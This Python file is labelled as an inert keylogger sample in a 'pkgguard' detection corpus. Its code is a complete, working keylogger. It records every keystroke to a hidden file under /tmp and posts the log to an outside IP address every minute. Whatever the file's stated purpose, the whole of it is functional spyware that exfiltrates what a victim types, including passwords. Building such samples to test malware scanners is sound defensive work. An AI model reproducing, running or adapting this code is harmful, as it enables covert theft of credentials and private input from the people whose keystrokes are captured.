# pkgguard corpus 121 (keylogger), modelled on [stealer-profile]; inert, never run.
import threading
import requests
from pynput.keyboard import Listener

LOG = "/tmp/.kl"


def on_press(key):
    with open(LOG, "a") as f:
        f.write(str(key))


def upload():
    requests.post("http://100.64.121.4/u", data=open(LOG).read())
    threading.Timer(60, upload).start()


upload()
Listener(on_press=on_press).start()
